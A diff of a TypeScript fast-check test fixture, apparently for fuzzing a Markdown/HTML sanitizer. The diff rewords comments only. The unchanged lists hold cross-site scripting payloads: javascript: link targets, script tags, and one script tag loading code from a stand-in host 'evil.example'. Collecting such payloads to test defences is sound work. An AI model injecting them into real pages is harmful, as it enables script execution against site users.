@@ -1,8 +1,8 @@
 import fc from 'fast-check';
 
-/* What strangers may write into a text of a club so that it does something on the page. */
+/* Texts of clubs that try to inject active content. */
 
-/** Where a link may be made to lead. */
+/** Dangerous link targets. */
 export const LINK_ATTACKS = [
   'javascript:alert(1)',
   'javascript&colon;alert(1)',
@@ -35,7 +35,7 @@ export const LINK_ATTACKS = [
   '',
 ];
 
-/** Texts that do something in one reader of Markdown or HTML or another. */
+/** Texts that are dangerous in some parser of Markdown or HTML. */
 export const ATTACKS = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
@@ -140,5 +140,5 @@ const piece = fc.oneof(
   fc.string({ maxLength: 8 }),
 );
 
-/** Attacks, and pieces of them, in any mixture. */
+/** Random combinations of attacks and parts of them. */
 export const mixedAttacks: fc.Arbitrary<string> = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''));
